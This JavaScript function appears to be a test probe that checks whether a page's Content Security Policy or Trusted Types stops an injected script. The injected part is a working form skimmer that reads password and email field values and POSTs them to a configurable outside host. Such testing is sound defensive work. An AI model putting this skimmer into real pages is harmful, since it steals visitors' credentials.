// Puts a script into the page as an attacker's markup would come in: without a nonce, so that it
// runs, and sends, only what the page's own policy lets it.
(settings, {tell}) => {
    // Milliseconds after which a page that draws itself is expected to have done so.
    const SETTLED = 1500;
    const attack = (target, selector, ready) => {
        const {fetch: ask, setTimeout: later} = window;
        const usual = ["input[type=password]", "input[type=email]", "input:not([type]), input[type=text]", "textarea", "input[type=search]"];
        const own = document.currentScript;
        const state = {found: false, reached: false, why: ""};
        const told = () => own.dispatchEvent(new CustomEvent(ready, {detail: state}));
        const post = (pairs) => ask(target, {method: "POST", mode: "no-cors", credentials: "omit", keepalive: true, body: new URLSearchParams(pairs)});
        const field = () => {
            if (selector) return document.querySelector(selector);
            return usual.map((one) => document.querySelector(one)).find((it) => it) || null;
        };
        let sent = "";
        const take = () => {
            const from = field();
            if (!from || !from.value || from.value === sent) return;
            sent = from.value;
            post([[from.name || from.id || from.type, sent]]).catch(() => {});
        };
        const look = () => {
            try {
                state.found = state.found || field() !== null;
            } catch (error) {
                state.why = error.message;
                return;
            }
            if (state.found) told();
            else later(look, 100);
        };
        look();
        if (!state.why) {
            for (const kind of ["change", "submit"]) document.addEventListener(kind, take, true);
            document.addEventListener("input", () => later(take, 500), true);
        }
        post([]).then(() => {
            state.reached = true;
            told();
        }, (error) => {
            state.why = state.why || `connect-src: ${error.message}`;
        });
        told();
    };
    let state = null, why = "script-src: the page's policy runs no such script";
    const script = document.createElement("script");
    const given = [settings.target, settings.selector, settings.ready].map((it) => JSON.stringify(it));
    script.addEventListener(settings.ready, (event) => {
        state = event.detail;
        if (state.found && state.reached) tell("shown");
    });
    try {
        script.textContent = `(${attack})(${given})`;
        document.head.append(script);
    } catch (error) {
        // Trusted Types; the browser says so in words.
        why = error.message;
    }
    script.remove();
    setTimeout(() => {
        if (!state) tell("nothing", why);
        else if (state.why || !state.found) tell("nothing", state.why || "the page has no such field");
    }, SETTLED);
}
